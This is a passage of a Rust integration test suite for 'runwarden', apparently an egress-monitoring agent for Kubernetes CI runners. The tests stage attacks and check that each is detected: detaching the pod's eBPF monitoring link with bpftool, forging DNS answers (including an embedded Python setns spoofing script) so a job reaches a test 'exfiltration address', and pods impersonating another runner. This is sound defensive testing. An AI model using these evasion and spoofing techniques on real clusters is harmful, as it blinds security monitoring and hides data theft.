                            "command": ["wget", "-q", "-O", "/dev/null", url("step.dind.test")]}]}}}
    }))
    .unwrap();
    let steps: Api<k8s_openapi::api::batch::v1::Job> = Api::namespaced(as_runner, &job.ns);
    steps.create(&PostParams::default(), &step).await.unwrap();

    let started = Instant::now();
    let mut events = Vec::new();
    while started.elapsed() < Duration::from_secs(30) {
        events = job.anomaly_events(world.node).await;
        let found = |host: &str| events.iter().any(|e| e.note.as_deref().unwrap_or("").contains(host));
        if found("nested.dind.test") && found("jobpod.dind.test") && found("step.dind.test") {
            break;
        }
        tokio::time::sleep(Duration::from_millis(250)).await;
    }
    for host in ["nested.dind.test", "jobpod.dind.test", "step.dind.test"] {
        let on_runner = events
            .iter()
            .find(|e| regarding(e) == ("Pod".into(), name.clone()) && e.note.as_deref().unwrap_or("").contains(host));
        let note = on_runner.and_then(|e| e.note.clone()).unwrap_or_default();
        assert!(
            note.contains("run 401 of acme/dind"),
            "{host}: an Event on the runner pod, for its job: {events:?}\n{}",
            agent_logs(world.node)
        );
    }
    assert!(listeners.iter().all(|l| l.count() == 1));

    pods.delete(&format!("{name}-workflow"), &DeleteParams::default()).await.unwrap();
    Api::<k8s_openapi::api::batch::v1::Job>::namespaced(client.clone(), &job.ns)
        .delete(&format!("{name}-step"), &DeleteParams::background())
        .await
        .unwrap();
    job.finish(world.node, &name).await;
    let baseline = job.wait_merged(world.node, 401).await;
    let hosts: Vec<String> = baseline.status.unwrap().endpoints.iter().filter_map(|e| e.host.clone()).collect();
    for host in ["api.github.test", "nested.dind.test", "jobpod.dind.test", "step.dind.test"] {
        assert!(hosts.iter().any(|h| h == host), "{host} in the runner's run: {hosts:?}");
    }
    let events = Api::<Event>::namespaced(client.clone(), &job.ns).list(&Default::default()).await.unwrap().items;
    let unidentified: Vec<_> = events.iter().filter(|e| e.reason.as_deref() == Some("UnidentifiedPod")).collect();
    assert!(unidentified.is_empty(), "the job pod and the step's pod are the runner's: {unidentified:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_runners_programs_detached_from_outside_are_noticed_and_put_back() {
    let world = world().await;
    let _shared = API_OUTAGE.read().await;
    let job = Job::new(world.node, "tamper").await;
    let ip = world.node.add_address(230).unwrap();
    world.dns.insert("after.tamper.test", ip);
    let listener = Listener::start(SocketAddr::from((ip, 8080))).unwrap();
    let name = job.start(world.node, 601, "api.github.test", "sleep 3600").await;
    job.wait_phase(world.node, &name, "Running").await;
    let uid = Api::<Pod>::namespaced(world.node.client().await, &job.ns).get(&name).await.unwrap().uid().unwrap();
    let cgroup = pod_cgroup(&uid);

    // What a privileged process (CAP_SYS_ADMIN, as Docker-in-Docker runners have) can do: take
    // the runner pod's TCP connect link by id and detach it. Done from the host here; the kernel
    // makes no difference.
    let id = std::os::unix::fs::MetadataExt::ino(&std::fs::metadata(&cgroup).unwrap());
    let out = std::process::Command::new("bpftool").args(["-j", "link", "show"]).output().unwrap();
    let links: Vec<serde_json::Value> = serde_json::from_slice(&out.stdout).unwrap();
    let link = links
        .iter()
        .find(|l| l["cgroup_id"].as_u64() == Some(id) && l["attach_type"] == "cgroup_sock_ops")
        .and_then(|l| l["id"].as_u64())
        .expect("the runner pod's tcp_connect link");
    let out = std::process::Command::new("bpftool").args(["link", "detach", "id", &link.to_string()]).output().unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));

    // The agent notices within its next second, says so, and attaches again.
    let started = Instant::now();
    let tampered = "runwarden_agent_tampered_total{kind=\"programs\"}";
    while series(&agent_metrics(world.node).await, tampered) < 1.0 || cgroup_programs(&cgroup) != runwarden_programs() {
        assert!(started.elapsed() < Duration::from_secs(10), "not put back in 10 s\n{}", agent_logs(world.node));
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    assert!(agent_logs(world.node).contains("kernel monitoring was switched off"));

    // And says so where people look: an AgentTampered Event on the runner pod, on its
    // EphemeralRunner and on the agent's own pod (in runwarden's namespace, under its RBAC).
    let client = world.node.client().await;
    let tampered = |list: Vec<Event>| -> Vec<(String, String)> {
        list.into_iter().filter(|e| e.reason.as_deref() == Some("AgentTampered")).map(|e| regarding(&e)).collect()
    };
    let started = Instant::now();
    loop {
        let here =
            tampered(Api::<Event>::namespaced(client.clone(), &job.ns).list(&Default::default()).await.unwrap().items);
        let agent =
            tampered(Api::<Event>::namespaced(client.clone(), SYSTEM).list(&Default::default()).await.unwrap().items);
        if here.contains(&("Pod".into(), name.clone()))
            && here.contains(&("EphemeralRunner".into(), name.clone()))
            && agent.iter().any(|(kind, pod)| kind == "Pod" && pod.starts_with("runwarden-agent-"))
        {
            break;
        }
        assert!(
            started.elapsed() < Duration::from_secs(30),
            "no AgentTampered Events: {here:?} {agent:?}\n{}",
            agent_logs(world.node)
        );
        tokio::time::sleep(Duration::from_millis(250)).await;
    }

    // The runner's calls are seen again.
    exec(world.node, &job.ns, &name, &format!("wget -q -O /dev/null {}", url("after.tamper.test")));
    assert!(listener.count() >= 1);
    let started = Instant::now();
    while !job
        .anomaly_events(world.node)
        .await
        .iter()
        .any(|e| e.note.as_deref().unwrap_or("").contains("after.tamper.test"))
    {
        assert!(started.elapsed() < Duration::from_secs(30), "no Event for the call after re-attaching");
        tokio::time::sleep(Duration::from_millis(250)).await;
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_name_forged_by_a_resolver_the_pod_chose_is_not_used_and_is_reported() {
    let world = world().await;
    let _shared = API_OUTAGE.read().await;
    let job = Job::new(world.node, "forge").await;
    // The attacker's own resolver (here outside the pod; one inside it is the kernel test's
    // case) answers api.github.test, a host every job here calls, with its exfiltration address.
    let (resolver, exfil) = (world.node.add_address(240).unwrap(), world.node.add_address(241).unwrap());
    let forger = Dns::start(SocketAddr::from((resolver, 53))).unwrap();
    forger.insert("api.github.test", exfil);
    let listener = Listener::start(SocketAddr::from((exfil, 8080))).unwrap();

    // The init container resolves api.github.test through the cluster's resolver; then the job
    // asks its own resolver and calls the address it was given.
    let script = format!("nslookup api.github.test {resolver}; wget -q -O /dev/null http://{exfil}:8080/");
    let name = job.start(world.node, 801, "api.github.test", &script).await;
    job.wait_phase(world.node, &name, "Succeeded").await;
    assert!(listener.count() >= 1, "the job reached the exfiltration address");

    // The forged answer names nothing: the call is reported as a bare address, not as
    // api.github.test; and the forging is said in a SuspiciousDNS Event on the runner pod.
    let client = world.node.client().await;
    let started = Instant::now();
    let (suspicious, exfil_reported) = loop {
        let events = Api::<Event>::namespaced(client.clone(), &job.ns).list(&Default::default()).await.unwrap().items;
        let suspicious: Vec<&Event> = events
            .iter()
            .filter(|e| e.reason.as_deref() == Some("SuspiciousDNS") && regarding(e) == ("Pod".into(), name.clone()))
            .collect();
        let exfil_reported: Vec<String> = events
            .iter()
            .filter(|e| e.reason.as_deref() == Some("AnomalousEgress") && regarding(e).0 == "Pod")
            .filter_map(|e| e.note.clone())
            .filter(|n| n.contains(&exfil.to_string()))
            .collect();
        if !suspicious.is_empty() && !exfil_reported.is_empty() {
            break (suspicious.iter().map(|e| e.note.clone().unwrap_or_default()).collect::<Vec<_>>(), exfil_reported);
        }
        assert!(
            started.elapsed() < Duration::from_secs(30),
            "no SuspiciousDNS and AnomalousEgress Events: {events:?}\n{}",
            agent_logs(world.node)
        );
        tokio::time::sleep(Duration::from_millis(250)).await;
    };
    assert!(suspicious[0].contains("api.github.test") && suspicious[0].contains(&exfil.to_string()), "{suspicious:?}");
    assert!(
        exfil_reported.iter().all(|n| !n.contains("api.github.test")),
        "the exfiltration address is judged as a bare address, not under the forged name: {exfil_reported:?}"
    );
    let metrics = agent_metrics(world.node).await;
    assert!(series(&metrics, "runwarden_agent_dns_answers{result=\"contradicting\"}") >= 1.0, "{metrics}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_nested_containers_answer_claiming_the_cluster_resolver_is_not_used_and_is_reported() {
    let world = world().await;
    let _shared = API_OUTAGE.read().await;
    let job = Job::new(world.node, "dindspoof").await;
    let exfil = world.node.add_address(243).unwrap();
    let listener = Listener::start(SocketAddr::from((exfil, 8080))).unwrap();
    // A name the job uses whose answers come a second late (a slow upstream): the nested
    // container's answer is there first.
    world.dns.insert("slow.dindspoof.test", world.node.add_address(244).unwrap());
    world.dns.delay("slow.dindspoof.test", Duration::from_secs(1));
    // The runner resolves api.github.test in its init container (on the pod's own interface),
    // then waits for its job.
    let name = job.start(world.node, 1001, "api.github.test", "exec sleep 3599").await;
    job.wait_phase(world.node, &name, "Running").await;
    let pid = host_pid("3599").await;

    // The job runs Docker-in-Docker: a bridge in the pod's network namespace and a nested
    // container's namespace behind it, which takes the cluster resolver's address for itself.
    let nested = format!("rwdind{}", std::process::id());
    let run = |cmd: &mut std::process::Command| {
        let out = cmd.output().unwrap();
        assert!(out.status.success(), "{cmd:?}: {}", String::from_utf8_lossy(&out.stderr));
    };
    let in_pod = |args: &[&str]| {
        let mut cmd = std::process::Command::new("nsenter");
        cmd.args(["-t", &pid.to_string(), "-n"]).args(args);
        cmd
    };
    run(std::process::Command::new("ip").args(["netns", "add", &nested]));
    run(&mut in_pod(&["ip", "link", "add", "dk0", "type", "bridge"]));
    run(&mut in_pod(&["ip", "addr", "add", "172.30.0.1/24", "dev", "dk0"]));
    run(&mut in_pod(&["ip", "link", "add", "dkp0", "type", "veth", "peer", "name", "dkn0", "netns", &nested]));
    run(&mut in_pod(&["ip", "link", "set", "dkp0", "master", "dk0", "up"]));
    run(&mut in_pod(&["ip", "link", "set", "dk0", "up"]));
    run(&mut in_pod(&["sysctl", "-qw", "net.ipv4.conf.all.rp_filter=0", "net.ipv4.conf.dk0.rp_filter=0"]));
    run(std::process::Command::new("ip").args(["-n", &nested, "addr", "add", "172.30.0.2/24", "dev", "dkn0"]));
    run(std::process::Command::new("ip").args(["-n", &nested, "addr", "add", &format!("{NODE_IP}/32"), "dev", "dkn0"]));
    run(std::process::Command::new("ip").args(["-n", &nested, "link", "set", "dkn0", "up"]));

    // A process of the job (in the runner container's cgroup and the pod's network namespace,
    // root) resolves slow.dindspoof.test, then asks again; this time a socket it opened in the
    // nested namespace answers first, from the resolver's address, with the exfiltration
    // address; the process then calls that address.
    let bytes = |b: Vec<u8>| b.iter().map(u8::to_string).collect::<Vec<_>>().join(",");
    let first = bytes(runwarden_tests::services::dns_query(76, "slow.dindspoof.test"));
    let query = bytes(runwarden_tests::services::dns_query(77, "slow.dindspoof.test"));
    let forged = bytes(runwarden_tests::services::dns_answer(77, "slow.dindspoof.test", exfil));
    let script = format!(
        "import ctypes, os, socket\n\
         libc = ctypes.CDLL(None, use_errno=True)\n\
         pod = os.open('/proc/self/ns/net', os.O_RDONLY)\n\
         assert libc.setns(os.open('/run/netns/{nested}', os.O_RDONLY), 0x40000000) == 0\n\
         fake = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); fake.bind(('{NODE_IP}', 53))\n\
         assert libc.setns(pod, 0x40000000) == 0\n\
         victim = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); victim.bind(('0.0.0.0', 45053))\n\
         victim.settimeout(5); victim.sendto(bytes([{first}]), ('{NODE_IP}', 53)); victim.recv(2048)\n\
         victim.sendto(bytes([{query}]), ('{NODE_IP}', 53))\n\
         fake.sendto(bytes([{forged}]), ('172.30.0.1', 45053))\n\
         got = victim.recv(2048)\n\
         assert bytes([{exfil_bytes}]) in got, 'the forged answer came first'\n\
         socket.create_connection(('{exfil}', 8080), timeout=5).close()\n",
        exfil_bytes = bytes(exfil.octets().to_vec()),
    );
    let out = std::process::Command::new("sh")
        .args(["-c", "echo $$ > \"$0/cgroup.procs\" && exec \"$@\""])
        .arg(cgroup_of(pid))
        .args(["nsenter", "-t", &pid.to_string(), "-n", "python3", "-c", &script])
        .output()
        .unwrap();
    let _ = std::process::Command::new("ip").args(["netns", "del", &nested]).status();
    assert!(out.status.success(), "the job's process: {}", String::from_utf8_lossy(&out.stderr));
    assert!(listener.count() >= 1, "the job reached the exfiltration address");

    // The answer names nothing: the call is reported by address, and the forging is said.
    let client = world.node.client().await;
    let started = Instant::now();
    let (suspicious, exfil_reported) = loop {
        let events = Api::<Event>::namespaced(client.clone(), &job.ns).list(&Default::default()).await.unwrap().items;
        let notes = |reason: &str| -> Vec<String> {
            events
                .iter()
                .filter(|e| e.reason.as_deref() == Some(reason) && regarding(e) == ("Pod".into(), name.clone()))
                .filter_map(|e| e.note.clone())
                .collect()
        };
        let (suspicious, anomalies) = (notes("SuspiciousDNS"), notes("AnomalousEgress"));
        let exfil_reported: Vec<String> = anomalies.into_iter().filter(|n| n.contains(&exfil.to_string())).collect();
        if !suspicious.is_empty() && !exfil_reported.is_empty() {
            break (suspicious, exfil_reported);
        }
        assert!(
            started.elapsed() < Duration::from_secs(30),
            "no SuspiciousDNS and AnomalousEgress Events: {events:?}\n{}",
            agent_logs(world.node)
        );
        tokio::time::sleep(Duration::from_millis(250)).await;
    };
    assert!(
        suspicious[0].contains("another interface") && suspicious[0].contains(&exfil.to_string()),
        "{suspicious:?}"
    );
    assert!(
        exfil_reported.iter().all(|n| !n.contains("api.github.test")),
        "judged as a bare address: {exfil_reported:?}"
    );
    job.finish(world.node, &name).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn pods_a_job_creates_borrow_no_identity_and_are_reported_as_unidentified() {
    let world = world().await;
    let _shared = API_OUTAGE.read().await;
    let job = Job::new(world.node, "borrow").await;
    let ip = world.node.add_address(242).unwrap();
    world.dns.insert("made.borrow.test", ip);
    let listener = Listener::start(SocketAddr::from((ip, 8080))).unwrap();
    // A runner with its job, and an idle one (no job yet) in the same namespace.
    let busy = job.start(world.node, 901, "api.github.test", "sleep 3600").await;
    let idle = job.start_with(world.node, 902, "api.github.test", "sleep 3600", false).await;
    job.wait_phase(world.node, &busy, "Running").await;
    job.wait_phase(world.node, &idle, "Running").await;

    // With the runner's ServiceAccount token a job can create pods: one claiming nothing, one
    // claiming to be the idle runner's job pod (whose next job it would poison), one declaring
    // its own job.
    let client = world.node.client().await;
    let pods: Api<Pod> = Api::namespaced(client.clone(), &job.ns);
    let as_job: Api<Pod> = Api::namespaced(job.as_runner(world.node, &busy).await, &job.ns);
    let made = |name: &str, labels: serde_json::Value| -> Pod {
        serde_json::from_value(json!({
            "metadata": {"name": name, "labels": labels,
                         "annotations": {"runwarden.dev/repository": "acme/release", "runwarden.dev/workflow": ".github/workflows/release.yml",
                                         "runwarden.dev/job": "publish", "runwarden.dev/run-id": "1"}},
            "spec": {"nodeName": NODE_NAME, "restartPolicy": "Never", "automountServiceAccountToken": false,
                     "containers": [{"name": "c", "image": "localhost/runwarden/test-busybox:1", "imagePullPolicy": "Never",
                                     "command": ["sh", "-c", format!("wget -q -O /dev/null {}; sleep 3600", url("made.borrow.test"))]}]}
        }))
        .unwrap()
    };
    // Naming another runner is refused by the chart's admission policy, before any pod exists.
    match as_job.create(&PostParams::default(), &made("made-borrowing", json!({"runner-pod": idle}))).await {
        Err(kube::Error::Api(s)) if s.code == 403 && s.message.contains(&format!("runner-pod={idle}")) => {}
        other => panic!("a job's pod may not name another runner: {other:?}"),
    }
    // Nor may a request without that runner's token (an administrator's), whoever it is. Were
    // the policy off, the agent would still take such a pod as unidentified (unit-tested).
    let as_admin = made("made-borrowing", json!({"runner-pod": idle}));
    match pods.create(&PostParams::default(), &as_admin).await {
        Err(kube::Error::Api(s)) if s.code == 403 => {}
        other => panic!("nobody but the runner names it: {other:?}"),
    }
    for (name, labels) in [("made-plain", json!({})), ("made-declaring", json!({"runwarden.dev/monitor": "true"}))] {
        as_job.create(&PostParams::default(), &made(name, labels)).await.unwrap();
    }

    // Both are said to be unidentified, and both are monitored: their calls happened and are
    // theirs.
    let started = Instant::now();
    loop {
        let events = Api::<Event>::namespaced(client.clone(), &job.ns).list(&Default::default()).await.unwrap().items;
        let on = |pod: &str| {
            events
                .iter()
                .any(|e| e.reason.as_deref() == Some("UnidentifiedPod") && regarding(e) == ("Pod".into(), pod.into()))
        };
        if on("made-plain") && on("made-declaring") && listener.count() >= 2 {
            break;
        }
        assert!(
            started.elapsed() < Duration::from_secs(60),
            "no UnidentifiedPod Events, or no calls ({}): {events:?}\n{}",
            listener.count(),
            agent_logs(world.node)
        );
        tokio::time::sleep(Duration::from_millis(500)).await;
    }

    // When they end, what they called is listed under no job; neither runner's baseline learned it.
    for name in ["made-plain", "made-declaring"] {
        pods.delete(name, &DeleteParams::default()).await.unwrap();
    }
    let started = Instant::now();
    loop {
        let events = Api::<Event>::namespaced(client.clone(), &job.ns).list(&Default::default()).await.unwrap().items;
        let listed = events
            .iter()
            .filter(|e| e.reason.as_deref() == Some("UnattributedEgress"))
            .filter(|e| e.note.as_deref().unwrap_or("").contains("made.borrow.test"))
            .count();
        if listed >= 2 {
            break;
        }
        assert!(started.elapsed() < Duration::from_secs(60), "no UnattributedEgress for the made pods: {events:?}");
        tokio::time::sleep(Duration::from_millis(500)).await;
    }
    job.finish(world.node, &busy).await;
    let baseline = job.wait_merged(world.node, 901).await;
    let hosts: Vec<String> = baseline.status.unwrap().endpoints.iter().filter_map(|e| e.host.clone()).collect();
    assert!(!hosts.iter().any(|h| h == "made.borrow.test"), "{hosts:?}");
    let metrics = agent_metrics(world.node).await;
    assert!(series(&metrics, "runwarden_agent_unidentified_pods_total") >= 2.0, "{metrics}");

    // Where a cluster administrator labelled the namespace, a runner without ARC declares its
    // own job: its run is merged into that job's baseline.
    let own = Job::new(world.node, "selfdecl").await;
    kubectl(world.node, &["label", "namespace", &own.ns, "runwarden.dev/self-declared-identities=true"]);
    tokio::time::sleep(Duration::from_secs(2)).await; // the agent's namespace watch, then its next second
    let pod: Pod = serde_json::from_value(json!({
        "metadata": {"name": "self-hosted", "labels": {"runwarden.dev/monitor": "true"},
                     "annotations": {"runwarden.dev/repository": "acme/selfdecl", "runwarden.dev/workflow": ".github/workflows/ci.yml",
                                     "runwarden.dev/job": "build", "runwarden.dev/run-id": "905"}},
        "spec": {"nodeName": NODE_NAME, "restartPolicy": "Never", "automountServiceAccountToken": false,
                 "containers": [{"name": "c", "image": "localhost/runwarden/test-busybox:1", "imagePullPolicy": "Never",
                                 "command": ["wget", "-q", "-O", "/dev/null", url("made.borrow.test")]}]}
    }))
    .unwrap();
    let own_pods: Api<Pod> = Api::namespaced(client.clone(), &own.ns);
    own_pods.create(&PostParams::default(), &pod).await.unwrap();
    own.wait_phase(world.node, "self-hosted", "Succeeded").await;
    own_pods.delete("self-hosted", &DeleteParams::default()).await.unwrap();
    let baseline = own.wait_merged(world.node, 905).await;
    let hosts: Vec<String> = baseline.status.unwrap().endpoints.iter().filter_map(|e| e.host.clone()).collect();
    assert!(hosts.iter().any(|h| h == "made.borrow.test"), "{hosts:?}");
}
